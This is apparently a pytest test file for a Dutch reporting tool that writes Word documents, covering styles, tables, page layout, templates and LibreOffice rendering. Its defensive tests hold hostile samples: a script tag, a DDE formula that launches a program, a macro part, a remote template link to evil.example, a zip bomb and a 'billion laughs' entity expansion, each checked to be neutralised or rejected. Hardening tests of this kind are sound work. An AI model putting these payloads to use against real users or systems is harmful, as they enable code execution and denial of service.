"""Word files: structure and text as a reader of XML finds them, other templates, and pages as LibreOffice makes them."""

import os
import re
import subprocess
import sys
from collections.abc import Callable
from datetime import date
from decimal import Decimal
from io import BytesIO
from itertools import pairwise
from pathlib import Path
from typing import Any
from xml.etree import ElementTree
from xml.etree.ElementTree import Element
from zipfile import ZIP_DEFLATED, ZipFile

import docx
import pytest
from docx.shared import Mm
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from aaa_cli import words
from aaa_cli.outputs import Wanted, docxfile, docxpackage, written
from aaa_cli.plan.progress import Light
from aaa_cli.reports.document import Cell, Column, Document, Role, Section, Table, Tone, Toned
from aaa_cli.words import figures
from aaa_cli.words.problem import Problem
from tests.conftest import ROOT, Run
from tests.outputs import house_style
from tests.tools import needed

W = f"{{{house_style.MAIN}}}"
R = f"{{{house_style.OFFICE}}}"
DAY = date(2025, 5, 20)
NOTHING = Table((), ())
COLUMNS = (
    Column("Thema", "theme", Role.GROUP),
    Column("Onderdeel", "title", Role.TITLE),
    Column("Id", "id", Role.ID),
    Column("Stoplicht", "light"),
    Column("Bedrag", "amount"),
)
ROWS: tuple[tuple[Cell, ...], ...] = (
    ("Wonen", "Regeling", "wonen/regeling", Light.RED, Decimal(1200)),
    ("Wonen", "Bouw\nin twee fasen", "wonen/bouw", Light.GREEN, None),
    ("Leren", "Open dag", "leren/dag", Light.GREY, Decimal("0.5")),
)
DOCUMENT = Document(
    "Stand van zaken",
    DAY,
    (("Plan", "Jaarplan"), ("Peildatum", "20 mei 2025")),
    (
        Section(
            "Alles",
            ("3 onderdelen", Toned("1 te laat", Tone.ALARM)),
            Table(COLUMNS, ROWS, total=("Alles", "", "", "", Decimal(1200))),
        ),
        Section(
            "Van dichtbij",
            table=Table(
                (Column("Wat", "what"), Column("Waarde", "value")),
                (("Trekker", Toned("geen", Tone.QUIET)),),
                headed=False,
            ),
            level=2,
        ),
        Section("Daarna", ("geen",), new_page=True),
        Section(),
        Section("Leeg", table=Table(COLUMNS, ())),
    ),
    NOTHING,
    notes=("Een noot.",),
    revision="0123abc",
)


def made(document: Document = DOCUMENT, template: Path | None = None) -> bytes:
    return docxfile.write(document, Wanted(template=template))


def part(content: bytes, name: str = "word/document.xml") -> Element:
    with ZipFile(BytesIO(content)) as archive:
        return ElementTree.fromstring(archive.read(name))


def said(element: Element) -> str:
    return "".join(
        {"t": each.text or "", "br": "\n", "tab": "\t"}.get(each.tag.removeprefix(W), "") for each in element.iter()
    )


def value(element: Element, path: str) -> str | None:
    found = element.find("/".join(f"{W}{name}" for name in path.split("/")))
    return None if found is None else found.get(f"{W}val", "")


def paragraphs(content: bytes) -> list[tuple[str | None, str]]:
    """Return the style and the text of each paragraph outside a table."""
    return [(value(each, "pPr/pStyle"), said(each)) for each in part(content).findall(f"{W}body/{W}p")]


def tables(content: bytes) -> list[list[list[str]]]:
    return [
        [[said(cell) for cell in row.findall(f"{W}tc")] for row in table.findall(f"{W}tr")]
        for table in part(content).iter(f"{W}tbl")
    ]


def one(
    *rows: tuple[Cell, ...], columns: tuple[Column, ...] = (Column("A", "a", Role.TITLE),), **about: Any
) -> Document:
    return Document("T", DAY, (), (Section("S", table=Table(columns, rows, **about)),), NOTHING)


def stories(content: bytes) -> dict[str, str]:
    with ZipFile(BytesIO(content)) as archive:
        names = [name for name in archive.namelist() if re.match(r"word/(header|footer)\d*\.xml", name)]
    return {name: said(part(content, name)) for name in names}


def test_the_text_has_the_styles_of_word() -> None:
    assert paragraphs(made()) == [
        ("Title", "Stand van zaken"),
        ("aaaGegevens", "Plan:\tJaarplan"),
        ("aaaGegevens", "Peildatum:\t20 mei 2025"),
        ("aaaGegevens", "Versie:\t0123abc"),
        ("Heading1", "Alles"),
        (None, "3 onderdelen"),
        (None, "1 te laat"),
        ("Heading2", "Van dichtbij"),
        ("Heading1", "Daarna"),
        (None, "geen"),
        ("Heading1", "Leeg"),
        ("aaaOpmerking", "Een noot."),
    ]
    styles = {
        each.get(f"{W}styleId"): value(each, "name") for each in part(made(), "word/styles.xml").iter(f"{W}style")
    }
    assert (styles["Title"], styles["Heading1"], styles["Heading2"]) == ("Title", "heading 1", "heading 2")
    (begun,) = (each for each in part(made()).iter(f"{W}p") if value(each, "pPr/pageBreakBefore") is not None)
    assert said(begun) == "Daarna"


def test_a_table_says_what_the_document_says() -> None:
    first, second = tables(made())
    assert first == [
        ["Thema", "Onderdeel", "Stoplicht", "Bedrag"],
        ["Wonen", "Regeling", "▲ rood", "€\u00a01.200"],
        ["", "Bouw\nin twee fasen", "● groen", ""],
        ["Leren", "Open dag", "○ nog niet te beoordelen", "€\u00a00,50"],
        ["Alles", "", "", "€\u00a01.200"],
    ]
    assert second == [["Trekker", "geen"]]


def test_a_table_is_laid_out_for_readers_of_paper_and_of_screens() -> None:
    first, second = part(made()).iter(f"{W}tbl")
    header, *rows = first.findall(f"{W}tr")
    assert value(header, "trPr/tblHeader") is not None
    assert all(value(row, "trPr/cantSplit") is not None for row in (header, *rows))
    assert [value(row.findall(f"{W}tc")[0], "tcPr/vMerge") for row in rows] == ["restart", "", None, None]
    assert value(first, "tblPr/tblCaption") == "Alles"
    assert value(first, "tblPr/tblDescription") == "Tabel met 3 rijen. Kolommen: Thema, Onderdeel, Stoplicht, Bedrag."
    assert value(second, "tblPr/tblDescription") == "Tabel met 1 rij. De eerste kolom zegt waar een rij over gaat."
    assert value(second.findall(f"{W}tr")[0], "trPr/tblHeader") is None
    assert {value(row.findall(f"{W}tc")[3], "p/pPr/jc") for row in (header, *rows)} == {"right"}
    assert {value(row.findall(f"{W}tc")[1], "p/pPr/jc") for row in (header, *rows)} == {None}
    assert [value(row.findall(f"{W}tc")[0], "p/pPr/pStyle") for row in (header, *rows)] == [
        "aaaTabelkop",
        *["aaaTabelrijkop"] * 3,
        "aaaTabeltotaal",
    ]
    assert value(rows[2].findall(f"{W}tc")[0], "p/pPr/keepNext") is not None, "a total is not alone on a page"
    assert [value(row.findall(f"{W}tc")[2], "p/r/rPr/rStyle") for row in rows[:3]] == [
        "aaaStoplichtrood",
        "aaaStoplichtgroen",
        "aaaStoplichtgrijs",
    ]
    look = [int(value(table, "tblPr/tblLook") or "", 16) for table in (first, second)]
    assert [(bits & 0x20, bits & 0x40, bits & 0x80) for bits in look] == [(0x20, 0x40, 0), (0, 0, 0x80)]


def test_tables_never_touch_and_a_blank_column_has_room() -> None:
    columns = (Column("Wat", "what"), Column("Afspraak", "note", Role.BLANK))
    table = Table(columns, (("x", None),))
    content = made(
        Document(
            "T", DAY, (), (Section(table=table), Section(table=table), Section(table=table, new_page=True)), NOTHING
        )
    )
    body = [each.tag.removeprefix(W) for each in part(content).findall(f"{W}body/*")]
    assert body == ["p", "tbl", "p", "tbl", "p", "tbl", "p", "sectPr"]
    assert [value(each, "pPr/pageBreakBefore") for each in part(content).findall(f"{W}body/{W}p")] == [
        None,
        None,
        "",
        None,
    ]
    row = part(content).findall(f".//{W}tr")[1]
    assert value(row, "trPr/trHeight") == "600"
    assert int(row.findall(f"{W}tc/{W}tcPr/{W}tcW")[1].get(f"{W}w", "")) > 2400


def test_what_rows_share_ends_with_what_they_share_above_it() -> None:
    columns = (Column("A", "a", Role.GROUP), Column("B", "b", Role.GROUP), Column("C", "c"))
    rows = [("x", "y", "1"), ("x", "y", "2"), ("z", "y", "3"), ("z", "", "4"), ("z", "", "5")]
    table = tables(made(one(*rows, columns=columns)))[0]
    assert table[1:] == [["x", "y", "1"], ["", "", "2"], ["z", "y", "3"], ["", "", "4"], ["", "", "5"]]


def test_a_long_group_is_named_again_and_nothing_is_lost() -> None:
    columns = (Column("A", "a", Role.GROUP), Column("B", "b", Role.TITLE))
    table = tables(made(one(*((f"groep {number // 60}", str(number)) for number in range(120)), columns=columns)))[0]
    assert [row[1] for row in table[1:]] == [str(number) for number in range(120)]
    named = [number for number, row in enumerate(table[1:]) if row[0]]
    assert {0, 60} < set(named)
    assert max(after - before for before, after in pairwise(named)) < 15


def test_any_table_has_columns_that_can_be_seen() -> None:
    many = tuple(Column(f"K{number}", f"k{number}") for number in range(63))
    for columns in (many, (Column("A", "a", Role.GROUP),)):
        grid = [
            int(each.get(f"{W}w", ""))
            for each in part(made(one(("tekst",) * len(columns), columns=columns))).iter(f"{W}gridCol")
        ]
        assert len(grid) == len(columns)
        assert min(grid) > 0


@pytest.mark.parametrize(("columns", "wide"), [(7, False), (9, True)])
def test_the_page_and_the_widths(columns: int, wide: bool) -> None:
    document = one(
        ("een lange tekst " * 20, *["kort"] * (columns - 1)),
        columns=tuple(Column(f"K{n}", f"k{n}") for n in range(columns)),
    )
    page = part(made(document)).find(f"{W}body/{W}sectPr/{W}pgSz")
    assert page is not None
    size = {"w": "11906", "h": "16838"} if not wide else {"w": "16838", "h": "11906", "orient": "landscape"}
    assert page.attrib == {f"{W}{name}": text for name, text in size.items()}
    grid = [int(each.get(f"{W}w", "")) for each in part(made(document)).iter(f"{W}gridCol")]
    assert sum(grid) == pytest.approx(int(size["w"]) - 2 * 1134, abs=columns)
    assert grid[0] > 2 * max(grid[1:])


TEXTS = st.text(st.characters(exclude_categories=("Cs",)), max_size=80).map(figures.visible)


@settings(max_examples=40, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.tuples(TEXTS, TEXTS, TEXTS), min_size=1, max_size=4))
def test_any_text_is_found_back(rows: list[tuple[str, str, str]]) -> None:
    columns = (Column("A", "a", Role.TITLE), Column("B", "b"), Column("C", "c", Role.NOTE))
    content = made(one(*rows, columns=columns))
    assert tables(content)[0][1:] == [[*row] for row in rows]
    grid = [int(each.get(f"{W}w", "")) for each in part(content).iter(f"{W}gridCol")]
    assert min(grid) > 0
    assert sum(grid) <= 11906 - 2 * 1134 + 3


HOSTILE = [
    *(
        "[red]rood[/red]",
        "<script>alert(1)</script>",
        "=cmd|'/C calc'!A0",
        "#set text(red)",
        "{PAGE}",
        "]]>&amp;<w:p/>",
    ),
    *("een\ntwee", "emoji 😀 👩\u200d🚀", "مرحبا", "\"'", "  twee spaties  "),
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_text(text: str) -> None:
    document = Document(
        text,
        DAY,
        ((text, text),),
        (Section(text, (text,), Table((Column(text, "a"),), ((text,),))),),
        NOTHING,
        notes=(text,),
    )
    content, replaced = written("docx", document, Wanted())
    assert replaced == []
    assert [said for _style, said in paragraphs(content)] == [text, f"{text}:\t{text}", text, text, text]
    assert tables(content) == [[[text], [text]]]
    assert stories(content)["word/header1.xml"] == text


def test_what_xml_cannot_hold_is_replaced_and_told() -> None:
    text = "a\x00\x07\ufffe\uffff\ud800\u202eb\x85"
    content, replaced = written("docx", one((text,)), Wanted())
    assert tables(content)[0][1] == ["a\\u0000\\u0007\\ufffe\\uffff\\ud800\\u202eb\\u0085"]
    assert set(replaced) == set(text) - {"a", "b", "\x85"}


# The order that Word's schema asks for; Word calls a file with another one broken
ORDER = {
    "tblPr": "tblStyle tblpPr tblOverlap bidiVisual tblStyleRowBandSize tblStyleColBandSize tblW jc tblCellSpacing tblInd tblBorders shd tblLayout tblCellMar tblLook tblCaption tblDescription",
    "tcPr": "cnfStyle tcW gridSpan hMerge vMerge tcBorders shd noWrap tcMar textDirection tcFitText vAlign hideMark",
    "tcBorders": "top left bottom right insideH insideV",
    "tbl": "tblPr tblGrid tr",
    "tr": "trPr tc",
    "tc": "tcPr p",
    "pPr": "pStyle keepNext keepLines pageBreakBefore framePr widowControl numPr suppressLineNumbers pBdr shd tabs suppressAutoHyphens spacing ind contextualSpacing mirrorIndents suppressOverlap jc textDirection textAlignment outlineLvl rPr",
    "rPr": "rStyle rFonts b bCs i iCs caps color spacing w kern position sz szCs highlight u lang",
    "sectPr": "headerReference footerReference type pgSz pgMar cols titlePg",
    "style": "name basedOn next link uiPriority qFormat pPr rPr tblPr trPr tcPr tblStylePr",
    "settings": "zoom autoHyphenation compat themeFontLang decimalSymbol listSeparator",
}


@pytest.mark.parametrize("name", ["document", "styles", "settings", "header1", "header2", "footer1", "footer2"])
def test_the_order_is_that_of_words_schema(name: str) -> None:
    seen = set()
    for element in part(made(), f"word/{name}.xml").iter():
        tag, *children = (each.tag.removeprefix(W) for each in (element, *element))
        assert tag != "p" or "pPr" not in children[1:]
        if order := ORDER.get(tag):
            places = [order.split().index(child) for child in children]
            assert places == sorted(places), tag
            seen.add(tag)
    assert seen or name == "header2"


def test_the_language_is_the_readers() -> None:
    for language, code, facts in (
        ("nl", "nl-NL", "Peildatum: 20 mei 2025 · Versie: 0123abc"),
        ("en", "en-GB", "As of: 20 May 2025 · Version: 0123abc"),
    ):
        with words.speaking(language):
            content = made()
            footer = f"{facts} · {words._(docxfile.PAGE).format(page=1, pages=1)}"
        langs = {each.get(f"{W}val") for each in part(content, "word/styles.xml").iter(f"{W}lang")}
        assert langs == {code}
        assert part(content, "word/styles.xml").find(f"{W}docDefaults/{W}rPrDefault/{W}rPr/{W}lang") is not None
        properties = part(content, "docProps/core.xml")
        assert [each.text for each in properties if each.tag.endswith("}language")] == [code]
        assert stories(content) == {
            "word/header1.xml": "Stand van zaken",
            "word/header2.xml": "",
            "word/footer1.xml": footer,
            "word/footer2.xml": footer,
        }
    codes = [each.get(f"{W}instr", "").strip() for each in part(content, "word/footer1.xml").iter(f"{W}fldSimple")]
    assert codes == ["SUBJECT", "PAGE", "NUMPAGES"]


def test_the_file_tells_the_document_and_nobodys_computer() -> None:
    content = made()
    told = docx.Document(BytesIO(content)).core_properties
    assert (told.title, told.subject) == ("Stand van zaken", "Peildatum: 20 mei 2025 · Versie: 0123abc")
    assert told.created == told.modified
    assert told.created is not None
    assert told.created.isoformat() == "2025-05-20T00:00:00+00:00"
    assert (told.author, told.last_modified_by, told.comments) == ("", "", "")
    with ZipFile(BytesIO(content)) as archive:
        assert {entry.date_time for entry in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        assert archive.namelist()[0] == "[Content_Types].xml"
        assert not [name for name in archive.namelist() if "app.xml" in name or "thumbnail" in name]
        assert b"python-docx" not in b"".join(map(archive.read, archive.namelist()))


def test_the_same_document_is_the_same_file_in_any_process() -> None:
    code = "import sys\nfrom tests.outputs.test_docxfile import made\nsys.stdout.buffer.write(made())"
    made_elsewhere = {
        subprocess.run(
            [sys.executable, "-c", code],
            cwd=ROOT,
            env=os.environ | {"PYTHONHASHSEED": seed, "TZ": zone},
            check=True,
            capture_output=True,
        ).stdout
        for seed, zone in (("1", "UTC"), ("2", "Asia/Tokyo"))
    }
    assert made_elsewhere == {made()}


def test_the_template_is_made_of_the_house_style() -> None:
    with ZipFile(docxpackage.TEMPLATE) as archive:
        shipped = {name: archive.read(name).decode() for name in archive.namelist()}
    assert shipped == house_style.parts(), "to make it anew: python -m tests.outputs.house_style"


# Other templates


@pytest.fixture
def theirs(tmp_path: Path) -> Path:
    """Return a Word file of somebody else, who has never heard of aaa."""
    word = docx.Document()
    word.sections[0].page_width, word.sections[0].page_height = Mm(210), Mm(297)
    word.sections[0].header.paragraphs[0].text = "Gemeente Voorbeeld"
    word.add_heading("Geheim", 1)
    word.add_comment(word.add_paragraph("oude tekst").runs, "geheime opmerking", author="Piet")
    word.core_properties.author = "Piet"
    word.save(str(tmp_path / "huisstijl.docx"))
    return tmp_path / "huisstijl.docx"


def changed(file: Path, change: Callable[[dict[str, bytes]], None]) -> Path:
    """Change the parts of a Word file."""
    with ZipFile(file) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    change(parts)
    with ZipFile(file, "w", ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return file


def test_a_template_gives_its_styles_and_header_and_keeps_its_text(theirs: Path) -> None:
    content = made(template=theirs)
    assert stories(content) == {"word/header1.xml": "Gemeente Voorbeeld"}
    assert tables(content) == tables(made())
    assert [text for _style, text in paragraphs(content)] == [text for _style, text in paragraphs(made())]
    with ZipFile(BytesIO(content)) as archive:
        everything = b"".join(map(archive.read, archive.namelist()))
    for secret in ("Geheim", "oude tekst", "Piet", "python-docx"):
        assert secret.encode() not in everything
    names = [value(each, "name") for each in part(content, "word/styles.xml").iter(f"{W}style")]
    assert len(names) == len(set(names))
    assert {name for name in names if name and name.startswith("aaa ")} == {
        name for name in house_style.NAMES if name.startswith("aaa ")
    }
    ids = {each.get(f"{W}styleId") for each in part(content, "word/styles.xml").iter(f"{W}style")}
    used = {
        each.get(f"{W}val")
        for tag in ("pStyle", "rStyle", "tblStyle", "basedOn")
        for each in part(content).iter(f"{W}{tag}")
    }
    assert used <= ids


def test_a_hand_out_whose_styles_were_changed_is_a_template(tmp_path: Path) -> None:
    first = tmp_path / "huisstijl.docx"
    first.write_bytes(made(one(("x",))))

    def restyle(parts: dict[str, bytes]) -> None:
        styles = parts["word/styles.xml"]
        for old, new in ((b"1F4E79", b"AA0055"), (b'"Heading1"', b'"Kop1"'), (b'"aaaTabel"', b'"Huistabel"')):
            styles = styles.replace(old, new)
        parts["word/styles.xml"] = styles  # Word in Dutch has such ids; the names stay

    content = made(template=changed(first, restyle))
    assert ("Kop1", "Alles") in paragraphs(content)
    assert value(next(part(content).iter(f"{W}tbl")), "tblPr/tblStyle") == "Huistabel"
    with ZipFile(BytesIO(content)) as archive:
        assert b"AA0055" in archive.read("word/styles.xml")
        assert b"1F4E79" not in archive.read("word/styles.xml")
    assert stories(content) == stories(made()), "the title and the day of the document that is made now"


def test_a_field_that_word_wrote_in_pieces_shows_the_title(theirs: Path) -> None:
    pieces = (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> TI</w:instrText></w:r>'
        '<w:r><w:instrText>TLE \\\\* MERGEFORMAT </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        '<w:r><w:t>Oude</w:t></w:r><w:r><w:t> titel</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:t>!</w:t></w:r>'
    )

    def insert(parts: dict[str, bytes]) -> None:
        parts["word/header1.xml"] = re.sub(rb"<w:r><w:t>.*?</w:r>", pieces.encode(), parts["word/header1.xml"])

    assert stories(made(template=changed(theirs, insert))) == {"word/header1.xml": "Stand van zaken!"}


@pytest.mark.parametrize(
    "kind",
    [
        "vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml",
        "vnd.ms-word.document.macroEnabled.main+xml",
        "vnd.ms-word.template.macroEnabledTemplate.main+xml",
    ],
)
def test_a_dotx_or_docm_becomes_a_docx_without_macros(theirs: Path, kind: str) -> None:
    def convert(parts: dict[str, bytes]) -> None:
        main = b"vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
        types = parts["[Content_Types].xml"].replace(main, kind.encode())
        macro = b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
        parts["[Content_Types].xml"] = types.replace(b"</Types>", macro)
        parts["word/vbaProject.bin"] = b"macro"
        linked = '<Relationship Id="rId99" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>'
        parts["word/_rels/document.xml.rels"] = parts["word/_rels/document.xml.rels"].replace(
            b"</Relationships>", linked.encode()
        )
        attached = f'<w:attachedTemplate xmlns:r="{house_style.OFFICE}" r:id="rId1"/><w:mailMerge/></w:settings>'
        parts["word/settings.xml"] = parts["word/settings.xml"].replace(b"</w:settings>", attached.encode())
        parts["word/_rels/settings.xml.rels"] = (
            f'<Relationships xmlns="{house_style.PACKAGE}/relationships"><Relationship Id="rId1" '
            f'Type="{house_style.OFFICE}/attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
        ).encode()

    content = made(template=changed(theirs, convert))
    with ZipFile(BytesIO(content)) as archive:
        assert "word/vbaProject.bin" not in archive.namelist()
        everything = b"".join(map(archive.read, archive.namelist()))
    assert b"document.main+xml" in everything
    for gone in (b"vbaProject", b"evil", b"attachedTemplate", b"mailMerge"):
        assert gone not in everything
    docx.Document(BytesIO(content))


def test_a_header_of_an_earlier_section_holds(theirs: Path) -> None:
    word = docx.Document(str(theirs))
    word.add_section()
    word.add_section().footer.paragraphs[0].text = "laatste voettekst"
    word.save(str(theirs))
    assert set(stories(made(template=theirs)).values()) == {"Gemeente Voorbeeld", "laatste voettekst"}


def test_a_wide_page_of_theirs_stays_and_their_margins_count(theirs: Path) -> None:
    word = docx.Document(str(theirs))
    word.sections[0].page_width, word.sections[0].page_height = Mm(420), Mm(297)
    word.sections[0].left_margin = word.sections[0].right_margin = Mm(60)
    word.save(str(theirs))
    content = made(template=theirs)
    grid = [int(each.get(f"{W}w", "")) for each in next(part(content).iter(f"{W}tbl")).iter(f"{W}gridCol")]
    assert sum(grid) == pytest.approx(Mm(300).twips, abs=5)


def _bomb() -> bytes:
    stream = BytesIO()
    with ZipFile(stream, "w", ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", b" " * 30_000_000)
    return stream.getvalue()


def _laughs(parts: dict[str, bytes]) -> None:
    entities = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
    head, _break, rest = parts["word/document.xml"].partition(b"?>")
    start = f'?><!DOCTYPE x [<!ENTITY a0 "haha">{entities}]>'.encode()
    parts["word/document.xml"] = head + start + rest.replace(b"oude tekst", b"&a11;")


@pytest.mark.parametrize(
    ("content", "what"),
    [
        (b"", "geen Word-bestand"),
        (b"gewone tekst", "geen Word-bestand"),
        (b"PK\x05\x06" + bytes(18), "geen Word-bestand"),
        (b"PK\x03\x04 geen zip", "geen Word-bestand"),
        (bytes.fromhex("d0cf11e0a1b11ae1") + bytes(500), "oud Word-bestand"),
        (_bomb(), "te groot"),
        (bytes(20_000_001), "te groot"),
    ],
    ids=["empty", "text", "empty-zip", "no-zip", "doc", "bomb", "large"],
)
def test_what_is_no_template_is_told(content: bytes, what: str, tmp_path: Path) -> None:
    (tmp_path / "stijl.docx").write_bytes(content)
    with pytest.raises(Problem, match=what) as told:
        made(template=tmp_path / "stijl.docx")
    assert told.value.exit_code == 2
    assert "stijl.docx'" in told.value.what


def _drop(name: str) -> Callable[[dict[str, bytes]], None]:
    def drop(parts: dict[str, bytes]) -> None:
        del parts[name]

    return drop


def _cut(name: str) -> Callable[[dict[str, bytes]], None]:
    def cut(parts: dict[str, bytes]) -> None:
        parts[name] = parts[name][:-20]

    return cut


BROKEN = {
    "no types": _drop("[Content_Types].xml"),
    "no document": _drop("word/document.xml"),
    "no relations": _drop("_rels/.rels"),
    "half a document": _cut("word/document.xml"),
    "half of the styles": _cut("word/styles.xml"),
    "laughs": _laughs,
    "a spreadsheet": lambda parts: parts.update(
        {
            "[Content_Types].xml": parts["[Content_Types].xml"].replace(
                b"wordprocessingml.document", b"spreadsheetml.sheet"
            )
        }
    ),
}


@pytest.mark.parametrize("name", BROKEN)
def test_a_broken_template_is_told(name: str, theirs: Path) -> None:
    with pytest.raises(Problem, match="geen Word-bestand"):
        made(template=changed(theirs, BROKEN[name]))


def test_a_template_without_headings_says_which(theirs: Path) -> None:
    def rename(parts: dict[str, bytes]) -> None:
        styles = parts["word/styles.xml"]
        for name in (b'"Title"', b'"heading 2"'):
            styles = styles.replace(b"<w:name w:val=" + name, b'<w:name w:val="anders"', 1)
        parts["word/styles.xml"] = styles

    with pytest.raises(Problem) as told:
        made(template=changed(theirs, rename))
    assert told.value.what.endswith("huisstijl.docx' ontbreken de stijlen Titel en Kop 2")
    assert "-o huisstijl.docx" in told.value.remedy


def test_a_template_that_is_not_there_leaves_no_file(aaa: Run, tmp_path: Path) -> None:
    for template in (tmp_path / "weg.docx", tmp_path):
        answer = aaa("status", "-o", str(tmp_path / "stand.docx"), "--template", str(template))
        assert answer.code == 2
        assert str(template) in answer.err
        assert "Traceback" not in answer.err
        assert not (tmp_path / "stand.docx").exists()


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.sampled_from(sorted(house_style.parts())), st.floats(0, 1), st.integers(0, 60), st.binary(max_size=4))
def test_no_change_of_a_template_crashes(tmp_path: Path, name: str, where: float, length: int, new: bytes) -> None:
    file = tmp_path / "t.docx"
    file.write_bytes(house_style.made())

    def change(parts: dict[str, bytes]) -> None:
        content = parts[name]
        place = int(where * len(content))
        parts[name] = content[:place] + new + content[place + length :]

    try:
        content = made(template=changed(file, change))
    except Problem as problem:
        assert problem.exit_code == 2
    else:
        docx.Document(BytesIO(content))
        assert tables(content) == tables(made())


# As people see it


@pytest.fixture(scope="module")
def pages(tmp_path_factory: pytest.TempPathFactory) -> Callable[[str], list[str]]:
    """Return a function that gives the text of each page of a document, as LibreOffice lays it out."""
    office, reader = needed("soffice"), needed("pdftotext")
    folder = tmp_path_factory.mktemp("office")
    for name, document in LOOKED_AT.items():
        (folder / f"{name}.docx").write_bytes(made(document))
    profile = f"-env:UserInstallation={(folder / 'profile').as_uri()}"
    command = [office, profile, "--headless", "--convert-to", "pdf", "--outdir", str(folder)]
    files = [str(folder / f"{name}.docx") for name in LOOKED_AT]
    subprocess.run([*command, *files], check=True, capture_output=True, timeout=120)

    def read(name: str) -> list[str]:
        done = subprocess.run(
            [reader, "-layout", folder / f"{name}.pdf", "-"], check=True, capture_output=True, text=True
        )
        return done.stdout.split("\f")[:-1]

    return read


LONG = " ".join(f"woord{number}" for number in range(1500))
LOOKED_AT = {
    "rows": one(
        *((f"Onderdeel {number}", Light.AMBER, Decimal(number)) for number in range(300)),
        columns=(Column("Titel van het deel", "a", Role.TITLE), Column("Stoplicht", "b"), Column("Euro", "c")),
    ),
    "high": one(("kort", LONG), ("daarna", "klein"), columns=(Column("Wat", "a"), Column("Tekst", "b", Role.TITLE))),
    "narrow": one(
        tuple(f"Samenwerkingsovereenkomst{number}" for number in range(12)),
        columns=tuple(Column(f"Kolom{number}", f"k{number}") for number in range(12)),
    ),
    "all": DOCUMENT,
}


def test_each_page_of_a_long_table_has_its_header(pages: Callable[[str], list[str]]) -> None:
    shown = pages("rows")
    assert 6 <= len(shown) <= 9
    for number, page in enumerate(shown, start=1):
        assert "Titel van het deel" in page
        assert f"Pagina {number} van {len(shown)}" in page
        assert "Peildatum: 20 mei 2025" in page
    found = re.findall(r"Onderdeel (\d+) +◆ oranje +€\s*(\d+)", "".join(shown))
    assert found == [(str(number), str(number)) for number in range(300)]


def test_a_row_that_is_higher_than_a_page_is_there_whole(pages: Callable[[str], list[str]]) -> None:
    shown = pages("high")
    assert re.findall(r"woord\d+", "".join(shown)) == LONG.split()
    assert "daarna" in shown[-1]


def test_a_narrow_column_cuts_nothing_off(pages: Callable[[str], list[str]]) -> None:
    (page,) = pages("narrow")
    letters = sorted("".join(page.split()))
    for sign in "vw":
        assert letters.count(sign) >= 12 * "samenwerkingsovereenkomst".count(sign)


def test_a_document_reads_as_it_should(pages: Callable[[str], list[str]]) -> None:
    first, second = pages("all")
    assert "Wonen" in first
    assert "▲ rood" in first
    assert second.split()[:3] == ["Stand", "van", "zaken"], "the header of each page but the first"
    assert "Daarna" in second
